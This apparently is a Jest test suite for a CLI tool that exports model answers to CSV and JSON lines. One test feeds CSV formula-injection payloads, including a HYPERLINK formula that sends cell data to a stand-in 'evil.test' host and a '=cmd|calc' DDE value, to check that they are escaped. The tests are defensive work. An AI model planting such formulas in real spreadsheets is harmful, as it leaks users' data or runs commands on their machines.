import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { PassThrough, Writable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { describe, expect, test } from '@jest/globals';
import { listPath } from '../../../src/cli/inspect/answer-value.ts';
import { type ExportSettings, exportResults } from '../../../src/cli/inspect/export.ts';
import { RECEIPT_COLUMNS } from '../../../src/cli/inspect/export-rows.ts';
import { readLedgerOf } from '../../../src/cli/inspect/workspace.ts';
import { DiskError, UsageError } from '../../../src/domain/errors.ts';
import { versionOf } from '../../support/filled-ledger.ts';
import { mountDisk } from '../../support/mount-disk.ts';
import { scenes } from '../scenes.ts';

interface Exported {
  readonly terminal?: boolean;
  /** The name of the list. */
  readonly list?: string;
  readonly columns?: string;
}

describe('exportResults', () => {
  const scene = scenes();
  const exportTo = (settings: Omit<ExportSettings, 'list' | 'columns'>, list?: string, columns?: string) =>
    readLedgerOf(scene.workspace.root, (reader) =>
      exportResults(reader, {
        list: list === undefined ? null : listPath(list),
        columns: columns?.split(',') ?? null,
        ...settings,
      }),
    );

  async function exported(
    format: 'csv' | 'jsonl',
    { terminal = false, list, columns }: Exported = {},
  ): Promise<string> {
    const stdout = Object.assign(new PassThrough(), { isTTY: terminal });
    const all = text(stdout);
    await exportTo({ format, file: null, stdout }, list, columns);
    stdout.end();
    return all;
  }

  /** The cells of the document and its answer, row by row. */
  async function cellsOf(list: string): Promise<readonly string[]> {
    const rows = (await exported('csv', { list })).trimEnd().split('\r\n');
    const receipt = rows[0]?.indexOf(',model,');
    const count = rows[0]?.slice(0, receipt).split(',').length;
    return rows.map((row) => row.split(',').slice(0, count).join(','));
  }

  test('CSV has a header, and a row for each result', async () => {
    await scene.filled.answer(versionOf('b, "c".txt'), 'Two\nlines.');
    await scene.filled.answer(versionOf('a.txt'), 'One.');
    const rest =
      'acme/small-2,100,,20,,0.25,0,told,0.5,1,2026-03-31T10:00:01.500Z,acme/small,https://api.test/v1,Acme,gen-1,letters.md,recipe-hash';
    expect((await exported('csv')).split('\r\n')).toEqual([
      ['document', 'answer', ...RECEIPT_COLUMNS].join(','),
      `a.txt,One.,${rest},a.txt.md,sha-of-a.txt,1234,print-sha-of-a.txt,,`,
      `"b, ""c"".txt","Two\nlines.",${rest},"b, ""c"".txt.md","sha-of-b, ""c"".txt",1234,"print-sha-of-b, ""c"".txt",,`,
      '',
    ]);
  });

  test('CSV has a column for each field that any JSON answer has', async () => {
    await scene.filled.answer(versionOf('a.txt'), '{"sum": 1, "from": {"name": "A"}}');
    await scene.filled.answer(versionOf('b.txt'), '{"paid": true}');
    await scene.filled.answer(versionOf('c.txt'), 'No JSON.');
    const rows = (await exported('csv')).split('\r\n').map((row) => row.split(',').slice(0, 6));
    expect(rows.slice(0, 4)).toEqual([
      ['document', 'answer.sum', 'answer.from.name', 'answer.paid', 'answer', 'model'],
      ['a.txt', '1', 'A', '', '', 'acme/small-2'],
      ['b.txt', '', '', 'true', '', 'acme/small-2'],
      ['c.txt', '', '', '', 'No JSON.', 'acme/small-2'],
    ]);
  });

  test('CSV holds no formulas: an apostrophe makes texts of them, and numbers stay numbers', async () => {
    await scene.filled.answer(versionOf('+1.txt'), '=HYPERLINK("http://evil.test/?"&A1,"x")');
    await scene.filled.answer(versionOf('@a.txt'), '- a list');
    await scene.filled.answer(versionOf('=cmd|calc.txt'), '\t=1+1');
    await scene.filled.answer(versionOf('b.txt'), '+49 30 1234; -1');
    await scene.filled.answer(
      versionOf('c.txt'),
      '{"=key": "-12.50", "small": -5, "exact": -12345678901234567890, "sum": "+1e6", "sign": "-", "off": "-1+1"}',
    );
    const rows = (await exported('csv')).split('\r\n').map((row) => row.slice(0, row.indexOf(',acme/small-2')));
    const none = ','.repeat(6);
    expect(rows.slice(1, -1)).toEqual([
      `'+1.txt,"'=HYPERLINK(""http://evil.test/?""&A1,""x"")"${none}`,
      `'=cmd|calc.txt,'\t=1+1${none}`,
      `'@a.txt,'- a list${none}`,
      `b.txt,"'+49 30 1234; -1"${none}`,
      "c.txt,,-12.50,-5,-12345678901234567890,+1e6,'-,'-1+1",
    ]);
    expect(await exported('csv')).toMatch(/^document,answer,answer\.=key,answer\.small/);
    expect(await exported('csv')).toContain(",'+1.txt.md,");
    expect(await exported('csv', { terminal: true })).toContain(String.raw`'=cmd|calc.txt,'\t=1+1,`);
  });

  test.each([
    ['-0.8', '-0.8'],
    ['-.5', '-.5'],
    ['+1,234.56', '"+1,234.56"'],
    ['-12%', '-12%'],
    ['-1.5e-3', '-1.5e-3'],
    ['+49301234', '+49301234'],
    ['1-1', '1-1'],
    ['+49 30 1234', "'+49 30 1234"],
    ['-1+1', "'-1+1"],
    ['-1%+A1', "'-1%+A1"],
    ['--1', "'--1"],
    ['-', "'-"],
    ['=1', "'=1"],
  ])('CSV has %j as %s, and JSON lines have it as it is', async (answer, cell) => {
    await scene.filled.answer(versionOf('a.txt'), JSON.stringify({ answer }));
    expect(await exported('csv', { columns: 'answer' })).toBe(`answer.answer\r\n${cell}\r\n`);
    expect(await exported('jsonl', { columns: 'answer' })).toBe(`${JSON.stringify({ answer: { answer } })}\n`);
  });

  test('has the columns that are chosen, in that order; the answer has all of its fields', async () => {
    await scene.filled.answer(versionOf('a.txt'), '{"from": {"name": "A", "city": "B"}, "sum": 1}');
    expect(await exported('csv', { columns: 'costUsd,answer,document' })).toBe(
      'costUsd,answer.from.name,answer.from.city,answer.sum,document\r\n0.25,A,B,1,a.txt\r\n',
    );
    expect(await exported('csv', { columns: 'answer.sum,answer.from,answer' })).toMatch(
      /^answer\.sum,answer\.from\.name,/,
    );
    expect(await exported('csv', { columns: 'document,model' })).toBe('document,model\r\na.txt,acme/small-2\r\n');
    expect(await exported('jsonl', { columns: 'answer,document' })).toBe(
      '{"answer":{"from":{"name":"A","city":"B"},"sum":1},"document":"a.txt"}\n',
    );
  });

  test.each([
    ['csv', 'sum', 'there is no column "sum": did you mean answer.sum? Columns are: document, answer.sum, model, '],
    ['csv', 'document,modle', 'there is no column "modle": did you mean model? Columns are: document, answer.sum'],
    [
      'jsonl',
      'answer.sum',
      'there is no column "answer.sum": did you mean answer? Columns are: document, answer, model',
    ],
    ['csv', 'answer,', 'there is no column "". Columns are: '],
  ] as const)('%s refuses the columns %j', async (format, columns, words) => {
    await scene.filled.answer(versionOf('a.txt'), '{"sum": 1}');
    await expect(exported(format, { columns })).rejects.toThrow(words);
  });

  test('takes the fields of answers for columns where there is no result yet', async () => {
    expect(await exported('csv', { columns: 'document,answer.sum' })).toBe('document,answer.sum\r\n');
  });

  test('CSV of no results is its header; JSON lines of none are nothing', async () => {
    expect(await exported('csv')).toBe(`${['document', 'answer', ...RECEIPT_COLUMNS].join(',')}\r\n`);
    expect(await exported('jsonl')).toBe('');
  });

  test('JSON lines nest the answer between document and receipt', async () => {
    await scene.filled.answer(versionOf('a.txt'), '{"from": {"name": "A"}}');
    await scene.filled.answer(versionOf('b.txt'), 'Text.');
    const lines = (await exported('jsonl')).trimEnd().split('\n');
    const objects = lines.map((line) => JSON.parse(line) as object);
    expect(objects).toMatchObject([
      { document: 'a.txt', answer: { from: { name: 'A' } }, costUsd: 0.25 },
      { document: 'b.txt', answer: 'Text.', model: 'acme/small-2' },
    ]);
    for (const object of objects) expect(Object.keys(object)).toEqual(['document', 'answer', ...RECEIPT_COLUMNS]);
  });

  const EXACT = '{"invoice":12345678901234567890,"big":1e400,"lines":[{"sum":1.10},{"sum":-0}]}';

  test('numbers are those of the answer, to the last digit', async () => {
    await scene.filled.answer(versionOf('a.txt'), EXACT);
    expect(await exported('csv')).toContain(
      '\r\na.txt,12345678901234567890,1e400,"[{""sum"":1.10},{""sum"":-0}]",acme/',
    );
    expect(await exported('jsonl')).toContain(`{"document":"a.txt","answer":${EXACT},"model":`);
  });

  test('a column stands for one field, even if keys have dots', async () => {
    await scene.filled.answer(versionOf('a.txt'), '{"a": {"b.c": 1}, "a.b.c": 2}');
    expect(await exported('csv')).toMatch(
      /^document,answer\.a\.b\\\.c,answer\.a\\\.b\\\.c,model,.*\r\na\.txt,1,2,acme\//,
    );
  });

  describe('with a row for each item of a list', () => {
    test('CSV repeats what the answer has beside the list, and has the fields of the items behind it', async () => {
      await scene.filled.answer(
        versionOf('a.txt'),
        '{"lines": [{"text": "Rye", "sum": 1}, {"text": "Plum", "tax": {"rate": 7}}], "number": 7}',
      );
      await scene.filled.answer(versionOf('b.txt'), '{"lines": [{"text": "Oak"}], "number": 8, "paid": true}');
      expect(await cellsOf('lines')).toEqual([
        'document,answer.number,answer.paid,answer.lines.text,answer.lines.sum,answer.lines.tax.rate',
        'a.txt,7,,Rye,1,',
        'a.txt,7,,Plum,,7',
        'b.txt,8,true,Oak,,',
      ]);
    });

    test('CSV repeats the receipt', async () => {
      await scene.filled.answer(versionOf('a.txt'), '{"lines": [{"n": 1}, {"n": 2}]}');
      const [, one = '', two = ''] = (await exported('csv', { list: 'lines' })).split('\r\n');
      expect(one).toMatch(/^a\.txt,1,acme\/small-2,/);
      expect(two).toBe(one.replace('a.txt,1,', 'a.txt,2,'));
    });

    test('CSV keeps a row for an answer without items', async () => {
      await scene.filled.answer(versionOf('a.txt'), '{"number": 7, "lines": []}');
      await scene.filled.answer(versionOf('b.txt'), '{"number": 8, "lines": null}');
      await scene.filled.answer(versionOf('c.txt'), '{"number": 9}');
      await scene.filled.answer(versionOf('d.txt'), '{"number": 10, "lines": [{"n": 1}]}');
      expect(await cellsOf('lines')).toEqual([
        'document,answer.number,answer.lines.n',
        'a.txt,7,',
        'b.txt,8,',
        'c.txt,9,',
        'd.txt,10,1',
      ]);
    });

    test('CSV keeps text as it is', async () => {
      await scene.filled.answer(versionOf('a.txt'), '{"lines": [1, 2]}');
      await scene.filled.answer(versionOf('b.txt'), 'No lines.');
      expect(await cellsOf('lines')).toEqual([
        'document,answer,answer.lines',
        'a.txt,,1',
        'a.txt,,2',
        'b.txt,No lines.,',
      ]);
    });

    test('an answer may be the list', async () => {
      await scene.filled.answer(versionOf('a.txt'), '[{"n": 1}, {"n": 2}]');
      expect(await cellsOf('.')).toEqual(['document,answer.n', 'a.txt,1', 'a.txt,2']);
    });

    test('numbers are those of the answer, to the last digit', async () => {
      await scene.filled.answer(versionOf('a.txt'), EXACT);
      expect(await cellsOf('lines')).toEqual([
        'document,answer.invoice,answer.big,answer.lines.sum',
        'a.txt,12345678901234567890,1e400,1.10',
        'a.txt,12345678901234567890,1e400,-0',
      ]);
      expect(await exported('jsonl', { list: 'lines' })).toContain('"big":1e400,"lines":{"sum":1.10}},"model":');
    });

    test('a list may have a dot in its key', async () => {
      await scene.filled.answer(versionOf('a.txt'), '{"a.b": [{"n": 1}, {"n": 2}], "c": 3}');
      const list = String.raw`a\.b`;
      expect(await cellsOf(list)).toEqual([`document,answer.c,answer.${list}.n`, 'a.txt,3,1', 'a.txt,3,2']);
    });

    test('JSON lines have the item in place of the list', async () => {
      await scene.filled.answer(versionOf('a.txt'), '{"data": {"lines": [{"n": 1}, {"n": 2}]}, "number": 7}');
      await scene.filled.answer(versionOf('b.txt'), '{"data": {"lines": []}, "number": 8}');
      const lines = (await exported('jsonl', { list: 'data.lines' })).trimEnd().split('\n');
      const rows = lines.map((line) => JSON.parse(line) as Readonly<Record<string, unknown>>);
      expect(rows.map(({ document, answer, costUsd }) => ({ document, answer, costUsd }))).toEqual([
        { document: 'a.txt', answer: { data: { lines: { n: 1 } }, number: 7 }, costUsd: 0.25 },
        { document: 'a.txt', answer: { data: { lines: { n: 2 } }, number: 7 }, costUsd: 0.25 },
        { document: 'b.txt', answer: { data: {}, number: 8 }, costUsd: 0.25 },
      ]);
    });

    test('a list that no answer has is refused before anything is written', async () => {
      await scene.filled.answer(versionOf('a.txt'), '{"lines": [1], "data": {"pages": []}}');
      const file = join(scene.workspace.root, 'results.csv');
      const exporting = exportTo({ format: 'csv', file, stdout: new PassThrough() }, 'answer.lines');
      await expect(exporting).rejects.toEqual(
        new UsageError('--rows answer.lines: no answer has such a list. Lists of answers are: lines, data.pages'),
      );
      expect(existsSync(file)).toBe(false);
    });

    test.each([
      ['None.', 'None has any list.'],
      ['{"a": 1, "lines": "none"}', 'None has any list.'],
      ['{"\\u001b": []}', String.raw`Lists of answers are: \u{1b}`],
      [
        JSON.stringify(Object.fromEntries(Array.from({ length: 11 }, (_, n) => [`l${n}`, []]))),
        /: l0, .*, l9, \.\.\.$/,
      ],
    ])('where %j is all there is, the mistake is told', async (answer, words) => {
      await scene.filled.answer(versionOf('a.txt'), answer);
      await expect(exported('jsonl', { list: 'lines' })).rejects.toThrow(words);
    });

    test('without results, no list is missed', async () => {
      expect(await exported('jsonl', { list: 'lines' })).toBe('');
    });
  });

  test('a terminal gets no control characters', async () => {
    await scene.filled.answer(versionOf('a.txt'), 'Red: \u001B[31m');
    expect(await exported('csv', { terminal: true })).not.toContain('\u001B');
    expect(await exported('csv')).toContain('\u001B');
    expect(await exported('jsonl', { terminal: true })).not.toContain('\u001B');
  });

  test('writes a file', async () => {
    await scene.filled.answer(versionOf('a.txt'), 'One.');
    const file = join(scene.workspace.root, 'results.jsonl');
    const stdout = new PassThrough();
    await exportTo({ format: 'jsonl', file, stdout });
    expect(JSON.parse(await readFile(file, 'utf8'))).toMatchObject({ document: 'a.txt', answer: 'One.' });
    expect(stdout.readableLength).toBe(0);
  });

  test('a file that cannot be made is a mistake', async () => {
    const exporting = exportTo({
      format: 'csv',
      file: join(scene.workspace.root, 'none', 'a.csv'),
      stdout: new PassThrough(),
    });
    await expect(exporting).rejects.toBeInstanceOf(UsageError);
    await expect(exporting).rejects.toThrow(/--output .*a\.csv cannot be written: ENOENT/);
  });

  test('a full disk is an error of the disk', async () => {
    const disk = mountDisk('size=8k');
    if (disk === null) return;
    await scene.filled.answer(versionOf('a.txt'), 'x'.repeat(100_000));
    const exporting = exportTo({ format: 'csv', file: join(disk, 'a.csv'), stdout: new PassThrough() });
    await expect(exporting).rejects.toBeInstanceOf(DiskError);
  });

  test.each(['csv', 'jsonl'] as const)(
    'waits for a slow reader of %s, and ends quietly when it leaves',
    async (format) => {
      const ids = Array.from({ length: 300 }, (_, index) => `${index}.txt`);
      await Promise.all(ids.map((id) => scene.filled.answer(versionOf(id), 'x'.repeat(2000))));
      const gate = new PassThrough();
      let taken = 0;
      const reader = new Writable({
        write(chunk: Buffer, _, done) {
          taken += chunk.length;
          gate.once('data', (words) =>
            done(String(words) === 'go' ? null : Object.assign(new Error('left'), { code: 'EPIPE' })),
          );
          gate.emit('took');
        },
      });
      const took = once(gate, 'took');
      const exporting = exportTo({ format, file: null, stdout: reader });
      await took;
      gate.write('leave');
      await exporting;
      expect(taken).toBeLessThan(300 * 2000);
    },
  );
});
